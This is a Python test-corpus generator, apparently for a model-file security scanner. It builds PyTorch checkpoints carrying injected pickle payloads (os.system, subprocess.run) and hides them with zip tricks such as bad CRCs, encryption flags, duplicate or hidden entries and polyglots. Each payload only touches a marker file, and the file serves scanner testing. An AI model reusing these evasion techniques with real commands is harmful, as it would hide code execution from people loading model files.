"""Malicious PyTorch checkpoints: zip archives (honest and lying), legacy files, polyglots.

Every sample starts from a real ``torch.save`` of a small state dict; the payload is injected
into its pickle (the original object is still returned, so the file would still load as a
model), or the archive is rewritten with :mod:`tests.corpus.zipcraft` to hide it.
"""

from __future__ import annotations

import io
import pickletools
from collections.abc import Callable

from tests.corpus import zipcraft
from tests.corpus.payloads import inject
from tests.corpus.pickle_asm import Asm
from tests.corpus.sample import CorpusWriter
from tests.corpus.zipcraft import Entry

_MODELSCAN_354 = "https://github.com/protectai/modelscan/issues/354"


def _state_dict() -> dict[str, object]:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(8, 4), torch.nn.ReLU(), torch.nn.Linear(4, 2))
    return dict(model.state_dict())


def _torch_zip() -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(_state_dict(), buffer)
    return buffer.getvalue()


def _torch_legacy() -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(_state_dict(), buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


def _pickle_end(data: bytes, start: int) -> int:
    """Offset just after the STOP of the pickle starting at ``start``."""
    stream = io.BytesIO(data)
    stream.seek(start)
    end = start
    for op, _arg, pos in pickletools.genops(stream):
        if op.name == "STOP":
            end = (pos or 0) + 1
            break
    return end


def _renamed(entries: list[Entry], old: str, new: str) -> list[Entry]:
    return [Entry(new + e.name[len(old) :], e.data) for e in entries]


def _with_payload(
    entries: list[Entry], command: str, member: str = "archive/data.pkl"
) -> list[Entry]:
    return [Entry(e.name, inject(e.data, command)) if e.name == member else e for e in entries]


def _evil_data_pkl(entries: list[Entry], command: str) -> Entry:
    honest = next(e for e in entries if e.name == "archive/data.pkl")
    return Entry(honest.name, inject(honest.data, command))


Build = Callable[[CorpusWriter, str, bytes], bytes]


def _data_pkl(w: CorpusWriter, n: str, base: bytes) -> bytes:
    return zipcraft.build(_with_payload(zipcraft.members(base), w.touch_command(n)))


def _data_pkl_deflated(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _with_payload(zipcraft.members(base), w.touch_command(n))
    return zipcraft.build([Entry(e.name, e.data, method=zipcraft.DEFLATED) for e in entries])


def _archive_name(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _renamed(zipcraft.members(base), "archive/", "resnet18_finetuned_v2/")
    member = "resnet18_finetuned_v2/data.pkl"
    return zipcraft.build(_with_payload(entries, w.touch_command(n), member))


def _pickle_as_storage(w: CorpusWriter, n: str, base: bytes) -> bytes:
    payload = Asm(2).call("os", "system", w.touch_command(n)).stop().bytes()
    entries = [
        Entry(e.name, payload if e.name == "archive/data/1" else e.data)
        for e in zipcraft.members(base)
    ]
    return zipcraft.build(entries)


def _pickle_as_extra_member(w: CorpusWriter, n: str, base: bytes) -> bytes:
    payload = Asm(4).call("subprocess", "run", ["touch", str(w.marker(n))]).stop().framed()
    entries = zipcraft.members(base)
    entries.insert(1, Entry("archive/extra/state.bin", payload))
    return zipcraft.build(entries)


def _corrupt_entry_before(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _with_payload(zipcraft.members(base), w.touch_command(n))
    junk = Entry("archive/.corrupt", b"\x13\x37" * 64, method=99, raw=True)
    return zipcraft.build([junk, *entries])


def _encrypted_flag(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _with_payload(zipcraft.members(base), w.touch_command(n))
    return zipcraft.build(
        [Entry(e.name, e.data, flags=0x1) if e.name.endswith("data.pkl") else e for e in entries]
    )


def _bad_crc(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _with_payload(zipcraft.members(base), w.touch_command(n))
    return zipcraft.build(
        [
            Entry(e.name, e.data, crc=0xDEADBEEF) if e.name.endswith("data.pkl") else e
            for e in entries
        ]
    )


def _name_mismatch(w: CorpusWriter, n: str, base: bytes) -> bytes:
    entries = _with_payload(zipcraft.members(base), w.touch_command(n))
    return zipcraft.build(
        [
            Entry(e.name, e.data, local_name="archive/notes.txt")
            if e.name.endswith("data.pkl")
            else e
            for e in entries
        ]
    )


def _hidden_local_entry(w: CorpusWriter, n: str, base: bytes) -> bytes:
    # A stream reader (local headers in order) meets the payload first; the directory lists
    # only the honest data.pkl.
    honest = zipcraft.members(base)
    hidden = _evil_data_pkl(honest, w.touch_command(n))
    return zipcraft.build([Entry(hidden.name, hidden.data, in_central=False), *honest])


def _duplicate_name(w: CorpusWriter, n: str, base: bytes) -> bytes:
    honest = zipcraft.members(base)
    evil = _evil_data_pkl(honest, w.touch_command(n))
    return zipcraft.build([*honest, evil])


def _legacy(w: CorpusWriter, n: str, base: bytes) -> bytes:
    # Legacy layout: magic, protocol, sys_info, the object pickle, storage keys, storages.
    offset = 0
    for _ in range(3):
        offset = _pickle_end(base, offset)
    end = _pickle_end(base, offset)
    return base[:offset] + inject(base[offset:end], w.touch_command(n)) + base[end:]


def _polyglot(w: CorpusWriter, n: str, base: bytes) -> bytes:
    payload = Asm(2).call("os", "system", w.touch_command(n)).stop().bytes()
    return zipcraft.build(zipcraft.members(base), prefix=payload)


def _plain_pickle_bin(w: CorpusWriter, n: str, base: bytes) -> bytes:
    return Asm(2).call("os", "system", w.touch_command(n)).stop().bytes()


#: (file name, technique, advisory, needs a legacy base, builder).
TECHNIQUES: tuple[tuple[str, str, str | None, bool, Build], ...] = (
    ("data_pkl_payload.pt", "payload injected into archive/data.pkl", None, False, _data_pkl),
    ("data_pkl_deflated.pth", "payload in a deflated data.pkl", None, False, _data_pkl_deflated),
    ("renamed_archive.pt", "archive directory not named 'archive'", None, False, _archive_name),
    (
        "pickle_as_storage.pt",
        "pickle stored as a tensor storage member",
        None,
        False,
        _pickle_as_storage,
    ),
    (
        "pickle_extra_member.bin",
        "pickle under an unexpected member name",
        "GHSA-769v-p64c-89pr",
        False,
        _pickle_as_extra_member,
    ),
    (
        "corrupt_entry_first.pt",
        "corrupt entry placed before data.pkl",
        _MODELSCAN_354,
        False,
        _corrupt_entry_before,
    ),
    (
        "encrypted_flag.pt",
        "encryption flag bit set on a plain data.pkl",
        "GHSA-w8jq-xcqf-f792",
        False,
        _encrypted_flag,
    ),
    ("bad_crc.pt", "data.pkl with a wrong CRC", "CVE-2025-10156", False, _bad_crc),
    (
        "local_central_mismatch.pt",
        "local header name differs from the directory's",
        None,
        False,
        _name_mismatch,
    ),
    (
        "hidden_local_entry.pt",
        "payload entry missing from the central directory",
        None,
        False,
        _hidden_local_entry,
    ),
    (
        "duplicate_data_pkl.pt",
        "two data.pkl entries, the second malicious",
        None,
        False,
        _duplicate_name,
    ),
    (
        "legacy_payload.pt",
        "legacy (pre-1.6) checkpoint, payload in the object pickle",
        None,
        True,
        _legacy,
    ),
    (
        "pickle_zip_polyglot.pt",
        "malicious pickle with a checkpoint zip appended",
        None,
        False,
        _polyglot,
    ),
    (
        "pytorch_model.bin",
        "plain pickle named like a PyTorch checkpoint",
        "CVE-2025-10155",
        False,
        _plain_pickle_bin,
    ),
)


def generate(w: CorpusWriter) -> None:
    """Write every malicious checkpoint under ``torch/``."""
    if not w.wants("torch"):
        return
    zip_base, legacy_base = _torch_zip(), _torch_legacy()
    for filename, technique, advisory, legacy, build in TECHNIQUES:
        name = f"torch/{filename}"
        data = build(w, name, legacy_base if legacy else zip_base)
        w.add(name, data, label="malicious", family="torch", technique=technique, advisory=advisory)
